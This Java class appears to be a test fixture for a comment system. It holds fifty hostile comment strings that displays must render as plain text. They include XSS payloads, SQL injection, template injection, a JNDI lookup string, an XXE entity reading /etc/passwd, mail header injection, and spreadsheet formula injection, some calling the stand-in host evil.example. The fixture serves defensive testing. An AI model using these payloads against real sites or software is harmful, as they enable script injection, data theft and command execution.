package org.ouinon.comment;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import org.ouinon.web.PlainText;

/** Fifty comments of people who want more than to be read. Whatever shows comments must show each of these as text. */
public final class Hostile {

    /** Where those that call home would call; nothing may ever ask there. */
    public static final String ELSEWHERE = "evil.example";

    private static final List<String> MARKUP = List.of(
            "<script>alert(1)</script>",
            "<ScRiPt src=//evil.example/x.js></sCrIpT>",
            "<img src=x onerror=alert(1)>",
            "<img src=\"https://evil.example/pixel.gif\" width=1 height=1>",
            "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
            "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
            "<a href=\"javascript:alert(1)\">Click for your refund</a>",
            "<form action=\"https://evil.example/\"><input name=password><button>Sign in</button></form>",
            "<style>@import url(https://evil.example/x.css); body { display: none }</style>",
            "<link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example/>",
            "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
            "</p></article></main></body></html><h1>All is well</h1>",
            "\" onfocus=alert(1) autofocus x=\"",
            "' onmouseover='alert(1)' style='position:fixed;inset:0'",
            "</textarea><script>alert(1)</script>",
            "</title></script><script>alert(1)</script>",
            "<!-- --!> <script>alert(1)</script> --> <![CDATA[ <b>bold</b> ]]>",
            "]]> ]]&gt; <![CDATA[",
            "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
            "&lt;b&gt; &amp;amp; &#60;script&#62; &copy &nbsp;&unknown;");

    private static final List<String> TEMPLATES = List.of(
            "{name} {digest.name} {cdi:site.root} {cdi:visit.name}",
            "{#for i in 9}{i}{/for} {#include web/page}{/include} {inject:vertx} {config:['quarkus.datasource.password']}",
            "${7*7} #{7*7} {{7*7}} <%= 7*7 %> @{7*7} {7*7} {=7*7}",
            "{#if true}shown{#else}hidden{/if} \\{escaped} {| raw |} {! comment !}",
            "${jndi:ldap://evil.example/a} %s %d %n %x {0} {1}");

    private static final List<String> UNICODE = List.of(
            "\u202Egnp.exe\u202C \u2066left\u2069 \u200Fright\u200E \u061C",
            "(\u05E9\u05DC\u05D5\u05DD) <b>\u0645\u0631\u062D\u0628\u0627</b> 1234",
            "Z" + "\u0300\u0336\u0489\u0353\u0361".repeat(60) + "algo" + "\u0316\u0347\u033F".repeat(90),
            "\u0E01" + "\u0E49".repeat(300) + " high",
            "🙂".repeat(2000),
            "👩\u200D👩\u200D👧\u200D👦🏳\uFE0F\u200D🌈".repeat(20),
            "wide \uFDFD\uFDFD\uFDFD \u3164\u115F\u2800 \u200B\u200B\u2060\uFEFF",
            "x".repeat(2000),
            "control \u0000\u0001\u0007\u0008\u001B[31mred\u001B[0m \u007F\u009B \uFFFE\uFFFF",
            "lone \uD83D and \uDE42, swapped \uDE42\uD83D",
            "line\u2028separator\u2029paragraph\u0085next");

    private static final List<String> DATA = List.of(
            "'; DROP TABLE comment; -- ",
            "\" OR \"\"=\" \\' UNION SELECT password_hash FROM account #",
            "100% _ \\% \\_ ' \\\\ `ticket` /* */ +(-word* >\"a b\" @8 <~*",
            "\"},{\"text\":\"x\"} \\u003cscript\\u003e \\\"",
            "Good\r\nBcc: everybody@evil.example\r\nSubject: Won\r\n\r\nA body of its own",
            "Good\nContent-Type: text/html\n\n<h1>Won</h1>\n.\nQUIT\n",
            "--boundary\r\nContent-Disposition: attachment; filename=x.html\r\n\r\nx\r\n--boundary--",
            "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
            "=cmd|'/C calc'!A1",
            "+41 22 123 45 67\t=1+1",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0",
            "\t=1+1\n=1+1\r=1+1",
            ";=1+1;\"=1+1\",=1+1\n\"\"\"");

    private Hostile() {}

    /** As they are sent. */
    public static List<String> comments() {
        List<String> all = new ArrayList<>(MARKUP);
        all.addAll(TEMPLATES);
        all.addAll(UNICODE);
        all.addAll(DATA);
        return all;
    }

    /** As they are kept, and as every page, mail and file has to give them back; UTF-8 has no half characters to begin with. */
    public static List<String> kept() {
        return comments().stream()
                .map(text -> new String(text.getBytes(StandardCharsets.UTF_8), StandardCharsets.UTF_8))
                .map(sent -> PlainText.of(sent).value())
                .toList();
    }
}
